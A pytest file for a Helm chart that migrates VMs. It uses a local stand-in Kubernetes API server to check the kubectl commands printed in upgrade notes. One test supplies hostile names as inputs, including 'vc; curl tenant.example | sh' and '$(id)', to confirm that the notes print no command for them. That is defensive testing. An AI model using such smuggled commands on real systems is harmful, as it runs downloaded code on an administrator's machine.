"""The notes of `helm upgrade`, with what people have in a cluster. The API server is a stand-in.

Without Helm (HELM, .cache/bin or PATH), these tests are skipped with a message.
"""

from __future__ import annotations

import http.server
import json
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Final

import pytest
from ruamel.yaml import YAML

from tests.real.chart.test_chart import RELEASE, helm, without_helm
from tests.serving import serving
from tests.unit.workflows.author.rendered import CHART

pytestmark = without_helm
GROUP: Final = "migration.harvesterhci.io/v1beta1"
SLICES: Final = "discovery.k8s.io/v1"
KINDS: Final = ("VirtualMachineImport", "VmwareSource", "OpenstackSource", "OvaSource")
Object = dict[str, Any]


def answers(objects: list[Object]) -> dict[str, Object]:
    """What an API server answers, by path."""
    found: dict[str, Object] = {"/version": {"major": "1", "minor": "34", "gitVersion": "v1.34.0"}}
    found["/api"] = {"kind": "APIVersions", "versions": ["v1"]}
    found["/apis"] = {"kind": "APIGroupList", "groups": []}
    found[f"/apis/{SLICES}"] = {
        "kind": "APIResourceList",
        "groupVersion": SLICES,
        "resources": [{"name": "endpointslices", "kind": "EndpointSlice", "namespaced": True}],
    }
    for one in objects:
        if one["kind"] == "EndpointSlice":
            place = one["metadata"]
            path = f"/apis/{SLICES}/namespaces/{place['namespace']}/endpointslices/{place['name']}"
            found[path] = {"apiVersion": SLICES, **one}
    for version, kinds in ((GROUP, KINDS), ("rbac.authorization.k8s.io/v1", ("ClusterRole",))):
        rows = [{"name": f"{kind.lower()}s", "kind": kind, "namespaced": version == GROUP} for kind in kinds]
        found[f"/apis/{version}"] = {"kind": "APIResourceList", "groupVersion": version, "resources": rows}
    for kind in KINDS:
        items = [{"apiVersion": GROUP, **one} for one in objects if one["kind"] == kind]
        found[f"/apis/{GROUP}/{kind.lower()}s"] = {"apiVersion": GROUP, "kind": f"{kind}List", "items": items}
        for one in items:
            place = one["metadata"]
            path = f"/apis/{GROUP}/namespaces/{place['namespace']}/{kind.lower()}s/{place['name']}"
            found[path] = one
    return found


@contextmanager
def api_server(objects: list[Object]) -> Iterator[str]:
    found = answers(objects)
    missing = {"kind": "Status", "status": "Failure", "reason": "NotFound", "code": 404}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = self.path.partition("?")[0]
            body = json.dumps(found.get(path, missing)).encode()
            self.send_response(200 if path in found else 404)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            """Nothing."""

    with serving(http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as server:
        yield f"http://127.0.0.1:{server.server_port}"


@pytest.fixture
def chart(tmp_path: Path) -> Path:
    """The chart; `helm template` does not print the notes, so they are the text of an object, too."""
    copy = tmp_path / "vmferry"
    shutil.copytree(CHART, copy)
    notes = (copy / "templates" / "NOTES.txt").read_text()
    shown = 'kind: Notes\ntext: {{ include "shown" . | toJson }}\n'
    (copy / "templates" / "shown.yaml").write_text(f'{{{{- define "shown" }}}}{notes}{{{{- end }}}}\n{shown}')
    return copy


def notes(chart: Path, *objects: Object) -> str:
    """The notes of an upgrade."""
    with api_server(list(objects)) as address:
        done = helm(
            *("template", "imports", str(chart), "--namespace", RELEASE, "--is-upgrade"),
            *("--dry-run=server", "--kube-apiserver", address, "--show-only", "templates/shown.yaml"),
        )
    assert done.returncode == 0, done.stderr
    return str(YAML(typ="safe").load(done.stdout)["text"])


def commands(text: str) -> list[str]:
    return [line.strip() for line in text.splitlines() if line.startswith("  kubectl")]


def an_import(place: str, **reference: Any) -> Object:
    metadata = {"name": "web", "namespace": place}
    return {"kind": "VirtualMachineImport", "metadata": metadata, "spec": {"sourceCluster": reference}}


def a_source(title: str, **credentials: Any) -> Object:
    spec = {"credentials": credentials}
    return {"kind": "VmwareSource", "metadata": {"name": title, "namespace": "infra"}, "spec": spec}


def test_notes_show_the_command_for_each_source_and_each_secret(chart: Path) -> None:
    there = {"kind": "vmwaresource", "name": "vc", "namespace": "infra"}
    found = notes(
        chart,
        *(an_import("team-b", **there), an_import("team-a", **there), an_import("infra", **there)),
        *(a_source("vc", name="login", namespace="vault"), a_source("vc2", name="login", namespace="vault")),
        *(a_source("vc3", name="root", namespace=RELEASE), a_source("vc4", name="own")),
    )
    prefix, user = "migration.harvesterhci.io", "infra/VmwareSource"
    assert commands(found) == [
        f"kubectl annotate vmwaresource -n infra vc {prefix}/allowed-namespaces=team-a,team-b",
        f"kubectl annotate secret -n {RELEASE} root {prefix}/used-by={user}/vc3",
        # One command: a second one for the same annotation would be refused.
        f"kubectl annotate secret -n vault login {prefix}/used-by={user}/vc,{user}/vc2",
        f"kubectl label secret -n {RELEASE} root {prefix}/credentials=true",
    ]


def test_a_source_that_allows_the_use_needs_no_command(chart: Path) -> None:
    source = a_source("vc", name="own")
    source["metadata"]["annotations"] = {"migration.harvesterhci.io/allowed-namespaces": "x, team-a"}
    asked = an_import("team-a", kind="VmwareSource", name="vc", namespace="infra")
    assert commands(notes(chart, source, asked)) == []


@pytest.mark.parametrize("name", ["vc; curl tenant.example | sh", "$(id)", "a/b", "..", "a\nb", "", None])
def test_notes_have_no_command_with_a_name_that_is_none(chart: Path, name: str | None) -> None:
    """The administrator pastes the commands, and a name that Helm cannot request would end the upgrade."""
    found = notes(
        chart,
        an_import("team-a", kind="VmwareSource", name=name, namespace="infra"),
        an_import("team-a", kind="VmwareSource", name="vc", namespace=name),
        an_import("team-a", kind=name, name="vc", namespace="infra"),
        a_source("vc", name=name, namespace="vault"),
        a_source("vc", name="login", namespace=name),
    )
    assert commands(found) == []


@pytest.mark.parametrize("kind", KINDS)
def test_an_object_without_a_spec_does_not_end_an_upgrade(chart: Path, kind: str) -> None:
    """The schemas of the CRDs require none."""
    assert commands(notes(chart, {"kind": kind, "metadata": {"name": "x", "namespace": "team-a"}})) == []
